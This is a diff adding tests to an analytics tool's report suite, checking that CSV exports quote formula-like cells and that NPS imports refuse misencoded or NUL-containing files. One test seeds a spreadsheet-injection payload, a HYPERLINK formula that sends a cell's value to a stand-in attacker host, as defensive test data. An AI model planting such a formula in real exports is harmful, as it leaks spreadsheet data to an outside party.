@@ -103,7 +103,9 @@ def test_options(config: Path, two_customers: Store) -> None:
     retention = report(
         config, "retention", "--months", "2", "--format", "csv", "--as-of", "2024-12-31"
     )
-    assert retention.stdout.splitlines() == ["cohort,customers,+1,+2", "2024-01,2,0.5,0.0"]
+    # The month headers start with '+', which a spreadsheet runs as a formula (=+1 shows
+    # 1): they are quoted like any such cell, and show as "+1".
+    assert retention.stdout.splitlines() == ["cohort,customers,'+1,'+2", "2024-01,2,0.5,0.0"]
     # As of the end of 31 January, A's February purchase has not happened yet.
     early = report(config, "ltv", "--format", "json", "--as-of", "2024-01-31")
     assert [r["spend"] for r in json.loads(early.stdout)["rows"]] == ["1000.5", "600"]
@@ -158,3 +160,32 @@ def test_nps_import_and_summary_per_segment(config: Path, store: Store, tmp_path
     refused = nps(config, "import", str(bad))
     assert refused.exit_code == 2
     assert f"{bad}:2:score: not a score from 0 to 10: '11'" in refused.output
+
+
+def test_csv_cannot_carry_a_formula(config: Path, store: Store) -> None:
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    with store.engine.begin() as conn:
+        add_profile(conn, "a", family_name=formula, given_name="@SUM(1)")
+    write_orders(store, [order("a1", "a", jst(2024, 1, 10), 1000)])
+    out = report(config, "ltv", "--format", "csv", "--as-of", "2024-06-30")
+    assert out.exit_code == 0, out.output
+    rows = list(csv.reader(io.StringIO(out.stdout)))
+    assert rows[1][1].startswith("'=HYPERLINK(")
+    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows for c in row)
+
+
+def test_nps_import_refuses_a_hostile_file_with_exit_2_and_no_traceback(
+    config: Path, tmp_path: Path
+) -> None:
+    header = "response_id,email,score,responded_at,comment\n"
+    euc = tmp_path / "euc.csv"
+    euc.write_bytes((header + "R-1,a@example.com,9,2024-05-01,最高でした\n").encode("euc_jp"))
+    nul = tmp_path / "nul.csv"
+    nul.write_text(header + "R-1,a@example.com,9,2024-05-01,ok\x00\n", encoding="utf-8")
+    for path, message in [
+        (euc, f"{euc}:2: the file looks like EUC-JP"),
+        (nul, f"{nul}:2:comment: control character U+0000"),
+    ]:
+        result = nps(config, "import", str(path))
+        assert result.exit_code == 2, result.output
+        assert message in result.output and "Traceback" not in result.output
